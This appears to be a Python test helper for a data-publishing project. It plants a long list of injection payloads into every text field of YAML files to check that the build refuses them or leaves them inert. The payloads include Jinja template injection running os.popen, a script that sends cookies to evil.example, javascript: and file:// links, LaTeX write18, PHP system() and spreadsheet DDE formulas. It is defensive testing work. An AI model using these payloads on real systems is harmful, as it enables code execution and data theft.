"""Texts that would run, read or lead astray if they were anything but text, and every field that can hold them."""

import types
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path
from typing import Annotated, Any, Final, Literal, Union, get_args, get_origin

import yaml
from pydantic import BaseModel
from pydantic.fields import FieldInfo

from effekt.base.faults import Datafeil, samle
from effekt.base.numbers import Enhet
from effekt.check.checking import chapters_by_sektor, check_sektor
from effekt.model.storrelse import Form
from effekt.model.tiltak import YAMLFILER
from effekt.reading.bokmappe import Bokmappe
from effekt.reading.documents import Dokument, les_dokument

# What no output may have: what stands in a file outside the book.
HEMMELIG: Final = "hemmelig-7d1f0c"
KJORT: Final = "kjort-7d1f0c"

# {fil} is a file outside the book, {opp} the way to it from a page, {merke} one that is there only if something ran.
MALER: Final = (
    "{{{{ cycler.__init__.__globals__.os.popen('touch {merke}').read() }}}}",
    "{{{{ lipsum.__globals__['os'].popen('cat {fil}').read() }}}}",
    "{{% include '{fil}' %}}",
    "{{{{ kontakt }}}}",
)
EN_LINJE: Final = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<iframe src='file://{fil}'></iframe><object data='{fil}'></object><embed src='{fil}'>",
    '<a href="javascript:alert(1)" onclick=alert(1)>klikk</a><form action=https://evil.example><input></form>',
    "<style>@import url(file://{fil}); body{{background:url(https://evil.example/x)}}</style>",
    "<!-- --><base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "[klikk](javascript:alert(1)) [klikk](JaVaScRiPt:alert(1)) [klikk](  java&#x73;cript:alert(1))",
    "[klikk](java\tscript:alert(1)) [klikk](vbscript:msgbox(1)) [klikk](data:text/html;base64,PHNjcmlwdD4=)",
    "[les](file://{fil}) [les]({fil}) [les](<{opp}>) <file://{fil}> <javascript:alert(1)>",
    "[les](//evil.example/x) [les](path:{opp}) [les](project:{opp}) [les](inv:#x) [les](#finnes-ikke)",
    "[les][her] ![b][her] [her]: javascript:alert(1)",
    "![bilde]({opp}) ![bilde](file://{fil}) ![bilde](https://evil.example/x.png) ![b](data:image/svg+xml,<svg>)",
    "\\![b](https://evil.example/x.png) !\\[b](javascript:x) \\\\[klikk](javascript:alert(1))",
    "{{download}}`notat <{opp}>` {{download}}`{fil}` {{nedlasting}}`x <../../{opp}>`",
    "{{eval}}`open('{fil}').read()` {{glue:text}}`x` {{glue}}`x` {{nb-exec-table}}`x` {{sub-ref}}`today`",
    "{{ref}}`finnes ikke <finnes-ikke>` {{doc}}`{opp}` {{doc}}`/etc/passwd` {{numref}}`x` {{ref}}`x`",
    "{{raw-html}}`<script>alert(1)</script>` {{math}}`\\input{{{fil}}}` {{code}}`x` {{py:func}}`os.system`",
    "{{abbr}}`x (y)` {{rfc}}`1` {{pep}}`8` {{file}}`{fil}` {{octicon}}`alert` {{bdg-link-primary}}`x <javascript:y>`",
    "$\\input{{{fil}}}$ $$\\write18{{touch {merke}}}$$ \\(x\\) \\[y\\] $\\frac{{$ |x| |today| {{{{ x }}}}",
    "[tekst]{{.skjult onclick=alert(1)}} `kode`{{.x #id}} [a](https://a.example){{onclick=alert(1)}} {{#id .klasse}}",
    "[lagt til[ (endret fra 1)]{{.skjult}}]{{.ins .endret}}",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &amp;lt;script&amp;gt; &#x202e;&#8203;&#0;&#27;[2J",
    "`` ` `` ``` `{{include}} {fil}` ```` [^1]: note [^a] ^[note](javascript:x) [^note]",
    '#import "{fil}" #read("{fil}") #eval("1") @import url({fil}) \\include{{{fil}}} \\immediate\\write18{{x}}',
    "{{< include {fil} >}} <?php system('touch {merke}'); ?> <% x %> ${{7*7}} #{{7*7}} %{{7*7}} @(7*7) {{php}}",
    "`r readLines('{fil}')` ~~x~~ ==x== ++x++ ::x:: ~a~ ^b^ ---- *** ___ H~2~O :smile: @x #1",
    'HYPERLINK "https://evil.example" INCLUDETEXT "{fil}" {{ DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" }}',
    '=HYPERLINK("https://evil.example";"klikk")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "x;=1+1;@SUM(1)",
    "- liste",
    "+ liste",
    "* liste",
    "1. liste",
    "# overskrift",
    "> sitat",
    "% merknad",
    ": definisjon",
    "::: {{raw}} html",
    "```{{include}} {fil}",
    "|a|b|",
    "(mal)=",
    "+++",
    "---",
    "'én' \"to\" | tre # fire: {{fem}} [seks] & *sju !åtte",
    "L" + "a" * 400 + "ngt",
    "e" + "\u0301" * 40 + " og " + "\u00a0" * 40 + "æ",
)
FLERE_LINJER: Final = (
    "a\n\n```{{include}} {opp}\n```\n\n```{{literalinclude}} {fil}\n```",
    "a\n\n```{{raw}} html\n:file: {fil}\n```\n\n```{{raw}} html\n<script>alert(1)</script>\n```",
    "a\n\n:::{{raw}} html\n:url: file://{fil}\n:::\n\n:::{{csv-table}} T\n:file: {fil}\n:::",
    "a\n\n```{{eval-rst}}\n.. include:: {fil}\n.. raw:: html\n   :file: {fil}\n```",
    "a\n\n.. include:: {fil}\n\n.. raw:: html\n\n   <script>alert(1)</script>\n",
    "a\n\n```{{image}} {opp}\n```\n\n```{{figure}} {opp}\n```\n\n:::{{card}} x\n:link: javascript:alert(1)\n:::",
    "a\n\n```{{code-cell}}\nopen('{merke}', 'w')\n```\n\n```{{nb-exec-table}}\n```\n\n```{{glue}} x\n```",
    "a\n\n```{{toctree}}\n/etc/passwd\n```\n\n```{{math}}\n\\input{{{fil}}}\n```\n\n```{{graphviz}} {fil}\n```",
    "a\n\n(stjalet)=\n\n# Overskrift\n\nUnder\n=====\n\n[her]: javascript:alert(1)\n\n[klikk][her]",
    '---\nmyst:\n  enable_extensions: [substitution]\n---\n\na {{{{ x }}}}\n\n---\n\n+++ {{"x": 1}}\n\n% skjult',
    "a\n\n<div>\n\n<script>alert(1)</script>\n\n</div>\n\n<!--\n\nskjult\n\n-->\n",
    "a\n\nord\n: definisjon\n\n:felt: verdi\n\n| a | b |\n|---|---|\n| <script> | ![x]({opp}) |\n\n    kode\n\n> sitat",
    "a[^1] b[^x]\n\n[^1]: note <script>alert(1)</script>\n\n[^x]: [klikk](javascript:y)\n\n    {{download}}`x <{opp}>`",
    "::::{{container}} ingress\n:::{{container}} kort\n<script>alert(1)</script>\n:::\n::::\n\n:::\n:::::",
    "- a\n  - b\n    ```{{include}} {opp}\n    ```\n\n1. c\n\n   :::{{raw}} html\n   <b>\n   :::\n",
)
# Signs that data may not have at all, written as they are; {} is the name that the fault gives them.
USYNLIGE: Final = {
    "omvendt": ("\u202e", "U+202E"),
    "uten bredde": ("\u200b", "U+200B"),
    "skilletegn": ("\u2028", "U+2028"),
    "merkelapp": ("\U000e0041", "U+E0041"),
}
# What a terminal would obey.
TERMINAL: Final = "\x1b]0;x\x07\x1b[2J\x9b31m\x08\x7f\r\u202e\u2066"

TEKSTER: Final = (*EN_LINJE, *FLERE_LINJER)


def fylt(tekst: str, **steder: str) -> str:
    """The text with its places filled in; a place that is not given is one that is nowhere."""
    return tekst.format(**{"fil": "/nowhere/x.txt", "opp": "../../../x.txt", "merke": "/nowhere/merke", **steder})


@dataclass(frozen=True)
class Tekstfelt:
    """A field of free text in a document: where, as a path; ``monster`` is the same with * for names and numbers."""

    sti: tuple[str | int, ...]
    monster: tuple[str, ...]


def tekstfelter(modell: type[BaseModel], innhold: Any) -> Iterator[Tekstfelt]:
    """Every field of the document that its model lets hold any text, those that stand empty too."""
    yield from _i_modell(modell, innhold, (), ())


def _i_modell(modell: type[BaseModel], her: Any, sti: Any, monster: Any) -> Iterator[Tekstfelt]:
    if not isinstance(her, Mapping):
        return
    for navn, felt in modell.model_fields.items():
        nokkel = felt.alias or navn
        if not felt.exclude:
            yield from _i_felt(_med_krav(felt), her.get(nokkel), (*sti, nokkel), (*monster, nokkel))
    ekstra = modell.__annotations__.get("__pydantic_extra__")
    for nokkel in (n for n in her if ekstra and n not in modell.model_fields):
        yield from _i_felt(get_args(ekstra)[1], her[nokkel], (*sti, nokkel), (*monster, "*"))


def _med_krav(felt: FieldInfo) -> Any:
    return Annotated[(felt.annotation, *felt.metadata)] if felt.metadata else felt.annotation


def _i_felt(slag: Any, her: Any, sti: Any, monster: Any) -> Iterator[Tekstfelt]:
    opphav, ledd = get_origin(slag), get_args(slag)
    if opphav is Annotated:
        # Text that must be of some form is no free text; whoever reads it says so.
        if ledd[0] is str and any(isinstance(k, Form) or getattr(k, "pattern", None) for k in ledd[1:]):
            return
        yield from _i_felt(ledd[0], her, sti, monster)
    elif opphav in (Union, types.UnionType):
        for en in ledd:
            yield from _i_felt(en, her, sti, monster)
    elif opphav is Literal or slag is None:
        return
    elif slag is str:
        yield Tekstfelt(sti, monster)
    elif opphav is tuple:
        for nr, _ in enumerate(her if isinstance(her, list) else ()):
            yield from _i_felt(ledd[min(nr, 0)], her[nr], (*sti, nr), (*monster, "*"))
    elif opphav is not None and isinstance(her, Mapping) and len(ledd) == 2:
        for nokkel in her:
            yield from _i_felt(ledd[1], her[nokkel], (*sti, nokkel), (*monster, "*"))
    elif isinstance(slag, type) and issubclass(slag, BaseModel):
        yield from _i_modell(slag, her, sti, monster)


@dataclass
class _Plass:
    """A field with what it said at first, and the texts that remain to be tried in it, the first of them now in it."""

    fil: Path
    felt: Tekstfelt
    forst: Any
    tekster: list[str]

    @property
    def monster(self) -> str:
        return f"{_slag(self.fil)}: {'.'.join(self.felt.monster)}"

    def sett(self, innhold: Any) -> None:
        *vei, siste = self.felt.sti
        for ledd in vei:
            innhold = innhold[ledd]
        if self.tekster:
            innhold[siste] = self.tekster[0]
        elif self.forst is None:
            innhold.pop(siste, None)
        else:
            innhold[siste] = self.forst


@dataclass
class Injisert:
    """A book with hostile texts in it: what stands where, and what was refused, by the fields' patterns."""

    satt: dict[str, tuple[str, str]] = field(default_factory=dict)
    avslag: dict[str, set[str]] = field(default_factory=dict)


def injiser(rot: Path, steder: Mapping[str, str]) -> Injisert:
    """Put a hostile text into every field of text of the book in ``rot``, each with a mark of its own.

    What is refused must be so in words, with file and line; the next text is then tried in the field, and at last what
    stood there. Anything but the product's own fault is let through.
    """
    ut, nr, rot = Injisert(), count(), rot.resolve()
    plasser: list[_Plass] = []
    for fil in sorted((rot / "data").rglob("*.yml")):
        modell = YAMLFILER[_slag(fil)]
        innhold = les_dokument(fil).innhold
        for felt in tekstfelter(modell, innhold):
            # A unit that money or shares are worked out in is no word.
            if felt.sti[-1] == "enhet" and _regner(str(_i(innhold, felt.sti))):
                continue
            n = next(nr)
            merket = [
                f"{fylt(t, **steder)} m{n:04}q" for t in (MALER[n % len(MALER)], TEKSTER[n % len(TEKSTER)], "<b>")
            ]
            plasser.append(_Plass(fil, felt, _i(innhold, felt.sti), merket))
    feil: list[Datafeil] = []
    for _ in range(60):
        _skriv(plasser)
        feil = list(_feil(Bokmappe(rot / "data", rot)))
        if not feil:
            break
        dokumenter = {fil: les_dokument(fil) for fil in {plass.fil for plass in plasser}}
        i_fare = [plass for plass in plasser if plass.tekster]
        rammet = {id(plass): (plass, ett) for ett in feil for plass in _rammet(ett, i_fare, dokumenter)}
        assert rammet, f"refused, and no text of ours is at fault: {[str(ett) for ett in feil]}"
        for plass, ett in rammet.values():
            ut.avslag.setdefault(plass.monster, set()).add(str(ett))
            del plass.tekster[0]
    assert not feil, [str(ett) for ett in feil]
    for plass in plasser:
        if plass.tekster:
            ut.satt[plass.tekster[0][-6:]] = plass.monster, plass.tekster[0]
    return ut


def _regner(enhet: str) -> bool:
    lest = Enhet.les(enhet)
    return lest.er_penger or lest.base in {"andel", "prosent", "prosentpoeng", "None"}


def _slag(fil: Path) -> str:
    return fil.parent.name if fil.parent.name in {"tiltak", "gevinster"} else fil.stem


def _i(innhold: Any, sti: tuple[str | int, ...]) -> Any:
    for ledd in sti[:-1]:
        innhold = innhold[ledd]
    return innhold.get(sti[-1]) if isinstance(innhold, dict) else innhold[int(sti[-1])]


def _skriv(plasser: list[_Plass]) -> None:
    for fil in {plass.fil for plass in plasser}:
        innhold = les_dokument(fil).innhold
        for plass in plasser:
            if plass.fil == fil:
                plass.sett(innhold)
        fil.write_text(yaml.safe_dump(innhold, allow_unicode=True, sort_keys=False, width=10**6), encoding="utf-8")


def _feil(bok: Bokmappe) -> Iterator[Datafeil]:
    """Every fault that a build would stop at before anything is run, each by itself."""
    funnet: list[Datafeil] = []
    with samle(funnet):
        for navn, egne in chapters_by_sektor(bok).items():
            with samle(funnet):
                funnet += check_sektor(bok, navn, egne).feil
    yield from {str(ett): ett for ett in funnet}.values()


def _rammet(feil: Datafeil, plasser: list[_Plass], dokumenter: Mapping[Path, Dokument]) -> list[_Plass]:
    """The fields that a fault is about: those it quotes, those on its line, below its key, or beside it."""
    if sagt := [p for p in plasser if p.tekster[0][-6:] in feil.melding]:
        return sagt
    fil = feil.fil.resolve() if feil.fil else Path()
    linjer = {sti: nr for sti, nr in dokumenter[fil].linjer.items() if nr == feil.linje} if fil in dokumenter else {}
    i_filen = [p for p in plasser if p.fil == fil]
    if pa_linjen := [p for p in i_filen if p.felt.sti in linjer]:
        return pa_linjen
    if under := [p for p in i_filen if any(p.felt.sti[: len(sti)] == sti for sti in linjer)]:
        return under
    ved = [p for p in i_filen if any(p.felt.sti[:2] == sti[:2] for sti in linjer)]
    if ved:
        return [p for p in ved if str(p.felt.sti[-1]) in feil.melding] or ved
    # What is wrong in a table may be so because of what describes it.
    beskriver = [p for p in plasser if _tabell(p, dokumenter) == fil]
    return [p for p in beskriver if "missingValues" in p.felt.sti] or beskriver


def _tabell(plass: _Plass, dokumenter: Mapping[Path, Dokument]) -> Path | None:
    """The table that a field of datapackage.yml describes."""
    if _slag(plass.fil) != "datapackage" or len(plass.felt.sti) < 3:
        return None
    ressurs = dokumenter[plass.fil].innhold[plass.felt.sti[0]][plass.felt.sti[1]]
    return plass.fil.parent / str(ressurs["path"])
